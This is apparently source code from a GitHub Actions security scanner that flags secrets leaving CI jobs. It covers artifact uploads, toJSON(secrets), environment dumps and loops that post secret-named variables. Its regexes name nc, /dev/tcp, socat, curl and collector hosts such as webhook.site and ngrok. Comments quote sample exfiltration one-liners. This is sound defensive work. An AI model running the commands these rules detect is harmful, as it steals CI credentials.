import { dnsLookupInShell, noteShellVariable, type ShellVariables } from '../code/dns-exfiltration.js';
import { ipInHostname, isPrivateAddress } from '../code/network-endpoints.js';
import { CREDENTIAL_NAME, ENV_VARIABLE_READ, ENVIRONMENT_PASS_THROUGH, WHOLE_ENVIRONMENT, readsSecretFromEnvironment } from '../code/sink-rules.js';
import { makeFinding } from '../finding.js';
import { hostOf, lineOf } from '../util.js';
import type { RuleContext } from './facts.js';
import { dumpsAllSecrets, envOf, scriptsOf, secretNamesIn, shellVariablesIn, usesName } from './facts.js';
import { isLoopbackHost } from '../npm/registry-hosts.js';
import { secretListSent, secretNamedVariablesSent, type SecretPickSent } from '../shell/secret-named-pick.js';
import { spelledLikeRegistry } from '../lookalike-host.js';
import { CREDENTIAL_HELPERS, credentialHelpersIn } from '../shell/credential-helpers.js';
import { isLocalUses, parseUses } from './workflow.js';
import { isFullCommitSha } from '../../commit-sha.js';
import { pushAll } from '../../push-all.js';

/**
 * Secrets leaving the job: toJSON(secrets) (every secret at once), secrets or the whole
 * environment sent to network commands bound for hosts made to receive stolen data, values derived
 * from a secret that GitHub cannot mask, and `secrets: inherit` towards reusable workflows.
 */

/**
 * Commands that send data over the network: the shell's clients, raw sockets, and the HTTP calls
 * of an inline script (`python -c "…urlopen(…)"`, `node -e "fetch(…)"`, a `shell: python` step,
 * github-script): the same request written in another language.
 */
const NETWORK_COMMAND =
  /\b(?:curl|wget|nc|ncat|netcat|socat|telnet|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b|\/dev\/(?:tcp|udp)\/|\burlopen\s*\(|\b(?:requests|httpx|axios|session)\.(?:post|put|patch|get|request)\s*\(|\bHTTPS?Connection\s*\(|\bfetch\s*\(|\bhttps?\.(?:request|get)\s*\(|\bNet::HTTP\b|\bHTTP::Tiny\b|\bLWP::UserAgent\b/i;
/** A header, `auth=(…)` or Authorization value in an inline script's request (`headers={…}`, `Authorization: 'Bearer ' + …`): a credential for the host. */
const CODE_CREDENTIAL = /\bheaders\s*[=:]\s*\{[^}]{0,1000}\}|\bauth\s*=\s*\([^)]{0,500}\)|['"]?Authorization['"]?\s*[:=,]\s*[^,)}\n]{0,500}/gi;
/** Perl's read of an environment variable (`$ENV{T}`, `$ENV{'T'}`), which the code rules' ENV_VARIABLE_READ does not know: an inline script of a workflow may be Perl. */
const PERL_ENV_READ = /\$ENV\{\s*['"]?([A-Za-z_]\w{0,63})/g;

/** The variables a command reads: the shell's (`$T`, `${T}`, `$env:T`, `process.env.T`) and an inline script's (`os.environ['T']`, `os.getenv("T")`, `ENV['T']`…: ENV_VARIABLE_READ; `$ENV{T}`). */
function variablesIn(text: string): Set<string> {
  const names = shellVariablesIn(text);
  if (text.includes('env') || text.includes('ENV')) for (const m of [...text.matchAll(ENV_VARIABLE_READ), ...text.matchAll(PERL_ENV_READ)]) names.add(m[1] ?? '');
  names.delete('');
  return names;
}

/** A raw socket's host: `nc host 9000`, `ncat -u host 53`, `telnet host 23` (options skipped), `/dev/tcp/host/9000`, socat's `TCP:host:9000`. */
const SOCKET_COMMAND = /\b(?:nc|ncat|netcat|telnet)\s([^|;&\n]{1,300})/gi;
const SOCKET_PATH_HOST = /\/dev\/(?:tcp|udp)\/([a-z0-9.-]{1,253})\/|\b(?:TCP|UDP|OPENSSL)[46]?:([a-z0-9.-]{1,253}):\d/gi;
const HOST_NAME = /^[a-z0-9-]{1,63}\.[a-z0-9.-]{1,190}$/i;

function socketHostsIn(text: string): string[] {
  const hosts: string[] = [];
  for (const m of text.matchAll(SOCKET_COMMAND)) {
    const words = (m[1] ?? '').split(/\s+/).filter((w) => w !== '');
    for (let i = 0; i < words.length && i < 12; i += 1) {
      const word = (words[i] ?? '').replace(/^["']|["']$/g, '');
      if (word.startsWith('-')) continue;
      if (HOST_NAME.test(word) && /[a-z]/i.test(word)) hosts.push(word.toLowerCase());
      break;
    }
  }
  for (const m of text.matchAll(SOCKET_PATH_HOST)) hosts.push((m[1] ?? m[2] ?? '').toLowerCase());
  return hosts;
}

/** Hosts that exist to receive requests for someone else to read (request bins, tunnels, OAST). */
const COLLECTOR_HOST =
  /\b(?:webhook\.site|[\w-]+\.requestbin\.\w+|requestbin\.\w+|[\w-]+\.pipedream\.net|[\w-]+\.m\.pipedream\.net|[\w-]+\.ngrok(?:-free)?\.(?:io|app|dev)|[\w-]+\.burpcollaborator\.net|[\w-]+\.oastify\.com|[\w-]+\.interact\.sh|[\w-]+\.oast\.(?:pro|live|site|online|fun|me)|pastebin\.com|transfer\.sh|[\w-]+\.requestcatcher\.com|[\w-]+\.beeceptor\.com|hookbin\.com|[\w-]+\.trycloudflare\.com|[\w-]+\.serveo\.net|[\w-]+\.loca\.lt)\b/i;

/** An IPv4 address as a URL host or nc/socat target. */
const IP_HOST = /(?:\/\/|\s|@)((?:\d{1,3}\.){3}\d{1,3})(?=[:/\s"']|$)/g;

/** A public IPv4 address in the line (loopback, private and link-local ranges are a local service). */
function publicIpIn(line: string): string | null {
  for (const m of line.matchAll(IP_HOST)) {
    if (isPrivateAddress(m[1]!.split('.').map(Number))) continue;
    return m[1]!;
  }
  return null;
}

/** The whole environment (and so every secret in it) written out. */
const ENV_DUMP = /(?:^|[|;&(`$]\s*|\s)(?:printenv|env|set|export\s+-p|Get-ChildItem\s+env:)\s*(?:[)>|]|$)/im;

/** The languages of an inline script (`python -c "…"`, `node -e "…"`, `ruby -e "…"`, a `shell: python` step, github-script). */
const INLINE_LANGUAGES = ['python', 'js', 'ruby'] as const;
/**
 * Whether a line of an inline script takes the whole environment as a value (`dict(os.environ)`,
 * `json.dumps(os.environ.copy())`, `JSON.stringify(process.env)`, `ENV.to_h`): every secret the step
 * holds, as one value. Handing it to a child process (`env=os.environ.copy()`, `env: { ...process.env }`)
 * is not taking it, nor reading one variable (`os.environ['T']`, `process.env.T`).
 */
function takesWholeEnvironment(line: string): boolean {
  if (!line.includes('environ') && !line.includes('process.env') && !line.includes('ENV.')) return false;
  return INLINE_LANGUAGES.some((language) => {
    const pass = ENVIRONMENT_PASS_THROUGH[language];
    return WHOLE_ENVIRONMENT[language]?.test(pass === undefined ? line : line.replace(pass, ' ')) === true;
  });
}
/** The name an inline script's line assigns (`snap = dict(os.environ)`, `const body = JSON.stringify(process.env)`). */
const INLINE_HOLDER = /^\s*(?:(?:const|let|var)\s+)?([A-Za-z_]\w{0,60})\s*=(?![=>])/;
/** The most names followed from the environment through one script. */
const MAX_ENV_HOLDERS = 20;
/** Whether `name` stands in the line as a word of its own (not part of a longer name or a property). */
function namesWord(line: string, name: string): boolean {
  for (let at = line.indexOf(name); at >= 0; at = line.indexOf(name, at + 1)) {
    if (!/[\w.]/.test(line.charAt(at - 1)) && !/[\w$]/.test(line.charAt(at + name.length))) return true;
  }
  return false;
}

/** A file a shell line writes: `> f`, `>> f`, `tee [-a] f` (not `>&2`, not /dev/...). */
const WRITTEN_FILE = /(?:>>?|\btee(?:\s+-a)?)[ \t]*["']?([\w./${}~-]{1,200})/g;
/** The start of a here-document: its terminator. */
const HEREDOC = /<<-?[ \t]*["']?([A-Za-z_]\w{0,30})["']?/;

/** The files a line (with its here-document, if it opens one) writes, without `./`. */
function writtenFiles(line: string): string[] {
  const files: string[] = [];
  for (const m of line.matchAll(WRITTEN_FILE)) {
    const file = (m[1] ?? '').replace(/^\.\//, '');
    if (file === '' || file.startsWith('&') || file.startsWith('/dev/') || file.startsWith('$GITHUB_') || file.startsWith('${GITHUB_') || /^\d$/.test(file)) continue;
    files.push(file);
  }
  return files;
}

/** Whether an upload-artifact `path:` (one entry per line, `!` excludes) takes `file`. */
function uploads(pathInput: unknown, file: string): boolean {
  if (typeof pathInput !== 'string') return false;
  for (const raw of pathInput.split('\n')) {
    const entry = raw.trim().replace(/^\.\//, '');
    if (entry === '' || entry.startsWith('!')) continue;
    if (entry === file || entry === '.' || entry === '*' || entry === '**' || entry === '**/*') return true;
    // A folder takes what is under it; a glob, what is under its folder and ends as it does.
    const star = entry.indexOf('*');
    let dir = star === -1 ? entry : entry.slice(0, star);
    while (dir.endsWith('/')) dir = dir.slice(0, -1);
    const under = dir === '' || file.startsWith(`${dir}/`);
    if (under && (star === -1 || file.endsWith(entry.slice(entry.lastIndexOf('*') + 1)))) return true;
  }
  return false;
}

/**
 * Secrets written to a file that an `actions/upload-artifact` step of the same job uploads: the
 * artifact can be downloaded by anyone who can read the repository's Actions runs (on a public
 * repository, anyone), and GitHub masks secrets in logs, not in artifacts. The Shai-Hulud worm's
 * workflows wrote `toJSON(secrets)` to a file this way.
 */
function secretsInArtifacts(ctx: RuleContext, job: RuleContext['workflow']['jobs'][number]): void {
  const uploadPaths = job.steps.filter((s) => s.uses !== undefined && s.uses !== null && /^actions\/upload-artifact@/i.test(s.uses)).map((s) => s.with.path);
  const sent = sentFiles(job);
  if (uploadPaths.length === 0 && sent.size === 0) return;
  for (const step of job.steps) {
    const env = envOf(ctx.workflow, job, step);
    const secretVar = (name: string): boolean => {
      const value = env.get(name);
      return value !== undefined && (secretNamesIn(value).length > 0 || dumpsAllSecrets(value));
    };
    /** The secrets a piece of shell text names: `secrets.X`, toJSON(secrets), `$VAR` bound to a secret. */
    const carried = (text: string): { direct: string[]; all: boolean; vars: string[] } => ({ direct: secretNamesIn(text), all: dumpsAllSecrets(text), vars: [...shellVariablesIn(text)].filter(secretVar) });
    for (const script of scriptsOf(step)) {
      const lines = script.split('\n');
      for (let i = 0; i < lines.length; i += 1) {
        const first = lines[i] ?? '';
        // One command over several lines (`curl … \` then `-H "…" > f`) is read as one.
        let line = first;
        while (/\\\s*$/.test(line.slice(-64)) && i + 1 < lines.length && line.length < MAX_COMMAND) {
          i += 1;
          line = `${line.slice(0, line.lastIndexOf('\\'))} ${lines[i] ?? ''}`;
        }
        if (writtenFiles(line).length === 0) continue;
        let body = '';
        const heredoc = HEREDOC.exec(line);
        if (heredoc !== null) {
          // The document's lines are read with the line that writes them, and not again.
          const end = heredoc[1] ?? '';
          let j = i + 1;
          while (j < lines.length && j < i + 500 && (lines[j] ?? '').trim() !== end) j += 1;
          body = lines.slice(i + 1, j).join('\n');
          // Its lines are document text, ended or not (bash reads an unended one to the end).
          i = Math.min(j, lines.length - 1);
        }
        // Each command list item (`a; b && c`) writes its own files, from what its pipeline emits.
        for (const pipeline of line.split(LIST_SEPARATOR)) {
          const files = writtenFiles(pipeline);
          if (files.length === 0) continue;
          const emitted = pipeline.split('|').filter(emitsWhatItIsGiven);
          if (HEREDOC.test(pipeline)) emitted.push(body);
          const secrets = carried(emitted.join('\n'));
          const all = secrets.all || dumpsAllSecrets(pipeline);
          // The whole environment written out (`printenv | base64 > env.txt`, `env > vars.txt`) takes
          // every secret the step's env holds: their names stand for what is written.
          const envSecrets = dumpsWholeEnvironment(pipeline) ? [...env.keys()].filter(secretVar) : [];
          if (envSecrets.length > 0) pushAll(secrets.vars, envSecrets.filter((n) => !secrets.vars.includes(n)));
          if (secrets.direct.length === 0 && !all && secrets.vars.length === 0) continue;
          const file = files.find((f) => uploadPaths.some((p) => uploads(p, f)) || sent.has(f));
          if (file === undefined) continue;
          const what = all ? 'every secret (toJSON(secrets))' : [...secrets.direct.map((n) => `secrets.${n}`), ...secrets.vars.map((n) => `$${n}`)].join(', ');
          const artifact = uploadPaths.some((p) => uploads(p, file));
          ctx.findings.push(
            makeFinding({
              id: 'gha-secrets-exfiltration',
              severity: 'critical',
              title: artifact ? 'Secrets are written to a file that is uploaded as an artifact' : 'Secrets are written to a file that a network command sends',
              detail:
                `Job ${job.id}${step.name ? `, step "${step.name}"` : ''} writes ${what} to ${file}, and ` +
                (artifact
                  ? "an upload-artifact step of the same job uploads it: anyone who can read this repository's Actions runs can download the artifact, and GitHub masks secrets in logs, not in artifacts. "
                  : `a network command of the same job sends that file (${sent.get(file) ?? ''}): no service takes its credential as an uploaded file; a collector does. `) +
                'Fix: remove the step; if it ran, rotate every secret it wrote.',
              path: ctx.path,
              line: lineOf(ctx.content, first.trim()),
              subject: `${job.id}:artifact:${file}`,
            }),
          );
        }
      }
    }
  }
}

/**
 * A step's script picks the variables whose names say secret, reads their values and sends them out
 * (secretNamedVariablesSent: `for v in $(compgen -e | grep -i token)` with `${!v}`, then `curl -d
 * @file https://…`): every secret the step can see, whatever its name. Critical, as the GhostAction
 * workflows did this; not again where the line that sends is already reported (`env | grep -i token
 * | curl -d @- …` sends the whole environment's listing on one line).
 */
function secretNamedSent(ctx: RuleContext, where: string, jobId: string, lines: readonly string[]): boolean {
  const found = secretNamedVariablesSent(lines);
  if (found === null) return false;
  pushSecretsSent(ctx, lines, found, `${jobId}:secret-named`, {
    title: `Environment variables named like secrets are collected and sent to ${found.hosts.slice(0, 2).join(', ')}`,
    detail: `${where} lists the environment's variables, picks those whose names say token, secret, key or password, reads their values and sends them with a network command (to ${found.hosts.slice(0, 3).join(', ')}): every secret the step can see, whatever its name. The GhostAction workflows of September 2025 collected secrets so. Fix: remove the step; if it ran, rotate every secret it could see.`,
  });
  return true;
}

/** The critical gha-secrets-exfiltration of a pick or loop that sends secrets (`found`), at the line that picks them; none where the picking or the sending line is already reported. */
function pushSecretsSent(ctx: RuleContext, lines: readonly string[], found: SecretPickSent, subject: string, text: { readonly title: string; readonly detail: string }): void {
  const pickedLine = lineOf(ctx.content, (lines[found.picked] ?? '').trim());
  const sentLine = lineOf(ctx.content, (lines[found.sent] ?? '').trim());
  if (ctx.findings.some((f) => f.id === 'gha-secrets-exfiltration' && (f.line === sentLine || f.line === pickedLine))) return;
  ctx.findings.push(makeFinding({ id: 'gha-secrets-exfiltration', severity: 'critical', ...text, path: ctx.path, line: pickedLine, subject: `${subject}:${(lines[found.picked] ?? '').trim()}` }));
}

/**
 * A step's script sends secrets one by one in a loop (secretListSent): over their names written out
 * or in an array (`for n in NPM_TOKEN PYPI_TOKEN; do curl -d "$n=${!n}" https://…`), a name counting
 * as a secret's when the step's `env:` binds it to one or it is named like one; or over every secret
 * at once (`echo "$ALL" | jq … | while read kv; do curl -d "$kv" …`, `ALL` bound to
 * `toJSON(secrets)`, or the expression itself on the line). Critical, as the GhostAction workflows
 * sent them; not again where the sending line is already reported.
 */
function secretListLooped(ctx: RuleContext, where: string, jobId: string, lines: readonly string[], env: ReadonlyMap<string, string>): void {
  const kind = ctx.workflow.kind;
  const secretName = (name: string): boolean => {
    const value = env.get(name);
    return (value !== undefined && credentialsIn(value, kind).length > 0) || readsSecretFromEnvironment(name);
  };
  const allSecrets = (line: string): boolean => dumpsAllSecrets(line) || [...line.matchAll(SHELL_READ)].some((m) => dumpsAllSecrets(env.get(m[1] ?? '') ?? ''));
  const found = secretListSent(lines, secretName, allSecrets);
  if (found === null) return;
  pushSecretsSent(ctx, lines, found, `${jobId}:secret-loop`, {
    title: `Secrets are sent one by one in a loop to ${found.hosts.slice(0, 2).join(', ')}`,
    detail: `${where} loops over secrets (their names listed, or every secret from toJSON(secrets)), reads each value and sends it with a network command (to ${found.hosts.slice(0, 3).join(', ')}). The GhostAction workflows of September 2025 sent secrets so. Fix: remove the step; if it ran, rotate every secret it could see.`,
  });
}

/**
 * Whether a pipeline writes out the whole environment unfiltered: its first stage is ENV_SOURCE
 * (`env`, `printenv`, `export -p`, `set`, a process's environ) and every later stage an encoder or a
 * command that passes all it reads (`sort`, `cat`, `tee`, a compressor); `env | grep NODE` keeps only
 * what it names.
 */
function dumpsWholeEnvironment(pipeline: string): boolean {
  // Each stage without its redirection or tee (what it writes to, not what it passes on).
  const stages = pipeline.split('|').map((stage) => {
    const write = />|\btee\b/.exec(stage);
    return write === null ? stage : stage.slice(0, write.index);
  });
  if (!ENV_SOURCE.test(stages[0] ?? '')) return false;
  return stages.slice(1).every((stage) => stage.trim() === '' || isEncoder(stage) || /^\s*(?:sort|cat|gzip|xz|bzip2|zstd)(?:\s+-[\w-]{1,10}){0,3}\s*$/.test(stage));
}

/** A file a network command sends: `-d @f`, `--data-binary @f`, `-F x=@f`, `-T f`, `--upload-file f`, `-InFile f`, `--post-file=f`. */
const SENT_FILE = /(?:=@|\s@|["']@|(?:^|\s)(?:-T|--upload-file|-InFile|--post-file|--body-file)(?:\s+|=)["']?)([\w./${}~-]{1,200})/g;
/**
 * A file an inline script that makes a request reads, by a literal name: `python -c "…urlopen(url,
 * open('report.json','rb').read())"`, `node -e "fetch(u, {body: fs.readFileSync('out.txt')})"`,
 * Ruby's `File.read('f')`: the same upload as `curl -d @f`, in another language.
 */
const INLINE_FILE_READ = /\b(?:open|readFileSync|readFile|createReadStream|File\.(?:read|binread|open))\s*\(\s*\\?["']([\w./${}~-]{1,200})\\?["']/g;

/** `git push` (not `--dry-run`): what the job committed leaves for a remote. */
const GIT_PUSH = /\bgit\s+(?:-c\s+\S{1,200}\s+){0,4}push\b(?![^;&|\n]{0,200}--dry-run)/;
/** `git add` with the words after it, and the folder a `cd X &&` before it on the line moved into. */
const GIT_ADD = /(?:\bcd\s+["']?([\w./${}~-]{1,200})["']?\s*&&\s*)?\bgit\s+(?:-C\s+\S{1,200}\s+)?add\s([^;&|\n]{1,500})/g;

/**
 * The files a job's `git add` names one by one, when the job also runs `git push`: committed and
 * pushed, they leave for the remote (another repository, whose URL the job's token or a PAT opens)
 * as surely as an upload. `git add .`, `-A`, a folder or a glob name no file, and are not read.
 */
function gitPushedFiles(job: RuleContext['workflow']['jobs'][number]): Map<string, string> {
  const pushed = new Map<string, string>();
  const scripts = job.steps.flatMap((step) => scriptsOf(step));
  const push = scripts.flatMap((script) => script.split('\n')).find((line) => line.length <= MAX_COMMAND && GIT_PUSH.test(line));
  if (push === undefined) return pushed;
  for (const script of scripts) {
    for (const line of script.split('\n')) {
      if (line.length > MAX_COMMAND || !line.includes('git')) continue;
      for (const m of line.matchAll(GIT_ADD)) {
        const dir = (m[1] ?? '').replace(/^\.\//, '').replace(/\/$/, '');
        for (const word of (m[2] ?? '').trim().split(/\s+/).slice(0, 20)) {
          const file = word.replace(/^["']|["']$/g, '').replace(/^\.\//, '');
          if (file === '' || file.startsWith('-') || file === '.' || file.includes('*') || file.endsWith('/')) continue;
          const where = GIT_PUSH.test(line) ? line.trim().slice(0, 120) : `${line.trim().slice(0, 80)} … ${push.trim().slice(0, 40)}`;
          pushed.set(file, where);
          if (dir !== '' && dir !== '.') pushed.set(`${dir}/${file}`, where);
        }
      }
    }
  }
  return pushed;
}

/** The files the job's network commands send, each with the command (shortened) that sends it. */
function sentFiles(job: RuleContext['workflow']['jobs'][number]): Map<string, string> {
  const sent = gitPushedFiles(job);
  for (const step of job.steps) {
    for (const script of scriptsOf(step)) {
      for (const line of script.split('\n')) {
        if (line.length <= MAX_COMMAND) for (const file of ghSentFiles(line)) sent.set(file, line.trim().slice(0, 120));
        if (!NETWORK_COMMAND.test(line) || line.length > MAX_COMMAND) continue;
        for (const m of line.matchAll(SENT_FILE)) {
          const file = (m[1] ?? '').replace(/^\.\//, '');
          if (file !== '' && file !== '-') sent.set(file, line.trim().slice(0, 120));
        }
        if (/\b(?:open|readFile|createReadStream|File\.)/.test(line)) {
          for (const m of line.matchAll(INLINE_FILE_READ)) {
            const file = (m[1] ?? '').replace(/^\.\//, '');
            if (file !== '') sent.set(file, line.trim().slice(0, 120));
          }
        }
      }
    }
  }
  return sent;
}

/** `gh gist create|edit` and `gh release upload TAG`, with the words after them (files, options). */
const GH_FILE_COMMAND = /\bgh\s+(?:gist\s+(?:create|new|edit\s+\S{1,100})|release\s+(?:upload|create)\s+\S{1,100})\s([^;&|\n]{1,500})/g;
/** `--body-file f`, `-F f` of gh issue/pr create|comment. */
const GH_BODY_FILE = /\bgh\s+(?:issue|pr)\s+(?:create|comment|edit)\b[^;&|\n]{0,300}?\s(?:--body-file|-F)(?:\s+|=)["']?([\w./${}~-]{1,200})/g;
/** Options of those commands whose next word is their value, not a file. */
const GH_VALUED_OPTION = /^(?:-d|--desc|-f|--filename|-R|--repo|-b|--body|-t|--title|-n|--notes|-F|--notes-file|--target|--discussion-category|--notes-start-tag)$/;

/** The files a `gh` command uploads: a gist's files, a release's assets, an issue or comment body file. */
function ghSentFiles(line: string): string[] {
  if (!line.includes('gh ')) return [];
  const files: string[] = [];
  for (const m of line.matchAll(GH_FILE_COMMAND)) {
    const words = (m[1] ?? '').trim().split(/\s+/).slice(0, 20);
    for (let i = 0; i < words.length; i += 1) {
      const raw = (words[i] ?? '').replace(/^["']|["']$/g, '');
      // A release asset's display label (`file#label`) is not part of its path.
      const word = raw.includes('#') ? raw.slice(0, raw.indexOf('#')) : raw;
      if (word.startsWith('-')) {
        if (GH_VALUED_OPTION.test(word)) i += 1;
        continue;
      }
      if (word !== '' && word !== '-' && !word.includes('>')) files.push(word.replace(/^\.\//, ''));
    }
  }
  for (const m of line.matchAll(GH_BODY_FILE)) files.push((m[1] ?? '').replace(/^\.\//, ''));
  return files;
}

/** A command joined from continuation lines is read up to this length. */
const MAX_COMMAND = 20_000;
/** Between the items of a command list: `;`, `&&`, `||`. */
const LIST_SEPARATOR = /&&|\|\||;/;
/**
 * Clients that use a secret as a credential and write what the server answers: `curl -H "token:
 * $T" https://api… > release.json` writes the response, not the token. Not when they send data
 * (`-d`, `--data`, `-F`, `-T`, `--json`; `gh api -f`, `--input`), which a server can echo back.
 */
const NETWORK_CLIENT = /^(?:curl|wget|invoke-restmethod|invoke-webrequest|irm|iwr)$/;
const CLIENT_SENDS = /(?:^|\s)(?:-[A-Za-z]{0,6}[dFT](?=[\s"'@=]|$)|--(?:data|form|json|upload-file|post-data|post-file|body-data|body-file)|-[Bb]ody\b|-[Ii]n[Ff]ile\b)/;
const GH_SENDS = /(?:^|\s)(?:-[fFb](?=[\s"'=]|$)|--(?:field|raw-field|input|body|notes))/;
/** Words that may come before a command's name: `sudo`, `time`, `then`, `do`, `(`, `NAME=value`. */
const PREFIX = /^(?:[({!]\s*|(?:sudo|time|exec|then|do|else|command|nohup)\s+|-\S{1,32}\s+|[A-Za-z_]\w{0,63}=\S{0,512}\s+)/;

/**
 * Whether a pipeline stage writes out what it is given (echo, printf, cat, base64, an inline
 * interpreter, any command not known otherwise), as opposed to a credential client whose output
 * is the server's answer. Unknown commands count as writing it.
 */
function emitsWhatItIsGiven(stage: string): boolean {
  let rest = stage.trimStart();
  for (let n = 0; n < 8; n += 1) {
    const prefix = PREFIX.exec(rest);
    if (prefix === null) break;
    rest = rest.slice(prefix[0].length);
  }
  const word = /^[\w./-]{1,100}/.exec(rest)?.[0] ?? '';
  const name = word.slice(word.lastIndexOf('/') + 1).toLowerCase();
  if (NETWORK_CLIENT.test(name)) return CLIENT_SENDS.test(rest);
  if (name === 'gh') return GH_SENDS.test(rest);
  return true;
}

/** An action input named like a credential (`inputs.token`, `inputs.api-key`): what its callers pass secrets in. */
/** How a credential helper's output is named among a script's secrets: `cli:GH_CLI_TOKEN` (its words say its service). */
const HELPER_SECRET = 'cli:';

const CREDENTIAL_INPUT = /\binputs\s*\.\s*([A-Za-z_][\w-]{0,60})/g;

/**
 * The secrets a text names: `secrets.X`, and in an action's metadata (action.yml) also its inputs
 * named like credentials (`inputs.token`), which its callers fill with their secrets.
 */
function credentialsIn(text: string, kind: 'workflow' | 'action'): string[] {
  const names = secretNamesIn(text);
  // A credential helper's output (`$(gh auth token)`, `git credential fill`) is a secret too, named for its service.
  for (const helper of credentialHelpersIn(text)) names.push(`${HELPER_SECRET}${helper.judgedName}`);
  if (kind !== 'action' || !text.includes('inputs')) return names;
  for (const m of text.matchAll(CREDENTIAL_INPUT)) if (CREDENTIAL_NAME.test(m[1] ?? '')) names.push(`inputs.${m[1] ?? ''}`);
  return names;
}

/**
 * Options that hand a credential to the server it is for (curl, wget, PowerShell): a header, a
 * user, a bearer token, SigV4. What stays of a command without them is its data: body, form, URL.
 */
const CREDENTIAL_OPTION =
  /(?:^|\s)(?:-H|--header|-u|--user|--oauth2-bearer|--aws-sigv4|--proxy-user|--http-user|--http-password|--password|-Headers|-Credential|-Authentication|-Token)(?:\s+|=)(?:"[^"]{0,500}"|'[^']{0,500}'|@\{[^}]{0,500}\}|\S{1,500})/gi;
/** The user and password of a URL (`https://user:token@host`): a credential for that host. */
const URL_USERINFO = /\/\/[^\s/@"'$]{0,200}(?:\$\{\{[^}]{0,200}\}\}[^\s/@"']{0,200})?@/g;
const URL_HOST = /https?:\/\/([a-z0-9.-]{1,253})/gi;

/**
 * Services a secret's name says it is for (`NPM_TOKEN`, `PYPI_API_TOKEN`, `AWS_SECRET_ACCESS_KEY`),
 * by a word of the name, and what the hosts of each have in their names. A secret sent as data
 * to a host that is none of its service's was taken somewhere else: the GhostAction workflows of
 * September 2025 posted PyPI, npm, DockerHub and AWS credentials to one collector.
 */
const SERVICE_HOSTS: ReadonlyMap<string, readonly string[]> = new Map<string, readonly string[]>([
  ['NPM', ['npm', 'yarnpkg']],
  ['PYPI', ['pypi', 'pythonhosted']],
  ['TWINE', ['pypi', 'pythonhosted']],
  ['DOCKER', ['docker']],
  ['DOCKERHUB', ['docker']],
  ['AWS', ['amazonaws', 'aws']],
  ['GITHUB', ['github', 'ghcr.io']],
  ['GH', ['github', 'ghcr.io']],
  ['CODECOV', ['codecov']],
  ['COVERALLS', ['coveralls']],
  ['SLACK', ['slack']],
  ['DISCORD', ['discord']],
  ['TELEGRAM', ['telegram']],
  ['SONAR', ['sonar']],
  ['NETLIFY', ['netlify']],
  ['VERCEL', ['vercel']],
  ['HEROKU', ['heroku']],
  ['CLOUDFLARE', ['cloudflare', 'workers.dev']],
  ['RUBYGEMS', ['rubygems']],
  ['CARGO', ['crates.io']],
  ['CRATES', ['crates.io']],
  ['NUGET', ['nuget']],
  ['GCP', ['google', 'gcp']],
  ['GCLOUD', ['google', 'gcp']],
  ['GOOGLE', ['google']],
  ['FIREBASE', ['firebase', 'google']],
  ['AZURE', ['azure', 'windows.net', 'microsoft', 'visualstudio']],
  ['OPENAI', ['openai']],
  ['ANTHROPIC', ['anthropic']],
  ['SENTRY', ['sentry']],
  ['SNYK', ['snyk']],
  ['DATADOG', ['datadog']],
  ['HUGGINGFACE', ['huggingface', 'hf.co']],
  ['HF', ['huggingface', 'hf.co']],
  ['GITLAB', ['gitlab']],
  ['BITBUCKET', ['bitbucket']],
  ['SONATYPE', ['sonatype', 'maven']],
  ['OSSRH', ['sonatype', 'maven']],
  ['JFROG', ['jfrog', 'artifactory']],
  ['ARTIFACTORY', ['jfrog', 'artifactory']],
  ['VSCE', ['visualstudio', 'vsassets']],
  ['OVSX', ['open-vsx']],
]);

/**
 * Platforms where anyone picks the subdomain (`npm-mirror-sync.pages.dev`, `github-metrics.workers.dev`,
 * `pypi-cache.onrender.com`): the subdomain says nothing about who runs the host, so a service's
 * word in it does not make the host that service's. The platform's own name still does (a
 * Cloudflare token to `workers.dev`, a Netlify one to `netlify.app`).
 */
const USER_SUBDOMAIN_PLATFORM =
  /\.(?:pages\.dev|workers\.dev|vercel\.app|netlify\.app|herokuapp\.com|onrender\.com|github\.io|gitlab\.io|glitch\.me|repl\.co|replit\.app|replit\.dev|deno\.dev|fly\.dev|up\.railway\.app|railway\.app|web\.app|firebaseapp\.com|azurewebsites\.net|appspot\.com|run\.app|surge\.sh|pythonanywhere\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|plesk\.page|supabase\.co|koyeb\.app|amplifyapp\.com|cloudfunctions\.net|blogspot\.com|wixsite\.com|webflow\.io|000webhostapp\.com)$/;

/** The part of a place (a host, or a host with its path) that says who runs it: on a platform where anyone picks the subdomain, the platform's domain and the path; elsewhere the whole place. */
function ownerPart(place: string): string {
  const cut = place.search(/[/:]/);
  const host = cut < 0 ? place : place.slice(0, cut);
  const platform = USER_SUBDOMAIN_PLATFORM.exec(host);
  return platform === null ? place : host.slice(platform.index + 1) + (cut < 0 ? '' : place.slice(cut));
}

/** Commands that encode what they are given (not with a decode flag): base64, base32, hex dumps, reversal. */
const ENCODER = /^(?:base64|base32|basenc|xxd|od|hexdump|rev|openssl\s+(?:base64|enc))\b/;
/** `-d`, `-di`, `-D`, `--decode`, `xxd -r`: decoding, which is how a secret becomes a key file. */
const DECODE_FLAG = /\s(?:-[A-Za-z]{0,4}[dDr][A-Za-z]{0,4}|--decode)(?=\s|$)/;

export function isEncoder(stage: string): boolean {
  const text = stage.trim().replace(/^\$\(\s*/, '');
  return ENCODER.test(text) && !DECODE_FLAG.test(text);
}

/** A line's write into the job summary at its end: `>> $GITHUB_STEP_SUMMARY`, `>> "${GITHUB_STEP_SUMMARY}"`, `| tee -a "$GITHUB_STEP_SUMMARY"`. */
const SUMMARY_WRITE = /(?:>>?|\|\s{0,3}tee(?:\s{1,3}-a)?)\s{0,3}["']?\$\{?GITHUB_STEP_SUMMARY\}?["']?\s{0,3}$/;
/** `echo` or `printf` of one command substitution and nothing else: `echo "$(…)"`, `echo $(…)`, `printf '%s\n' "$(…)"`; group 1 what comes before `$(`. */
const ECHO_SUBSTITUTION = /^\s{0,40}(?:echo(?:\s{1,3}-[neE]{1,3})?|printf\s{1,3}["'][^"'\n]{0,40}["'])\s{1,3}["']?\$\(/;

/**
 * What a line prints to the job's log or its summary, read as a command: the line without a write
 * into `$GITHUB_STEP_SUMMARY` at its end (the summary is shown on the run's page to whoever can read
 * the run, and GitHub masks a secret's own text there, not its encodings), and the command of an
 * `echo "$(…)"` that prints nothing but its output (`echo "$(echo $T | base64 | base64)"`). Any
 * other line as it is. Lines past 2,000 characters are returned unread.
 */
export function printedCommand(line: string): string {
  if (line.length > 2000) return line;
  const summary = line.includes('GITHUB_STEP_SUMMARY') ? SUMMARY_WRITE.exec(line) : null;
  const text = summary === null ? line : line.slice(0, summary.index);
  const echo = ECHO_SUBSTITUTION.exec(text);
  if (echo === null) return text;
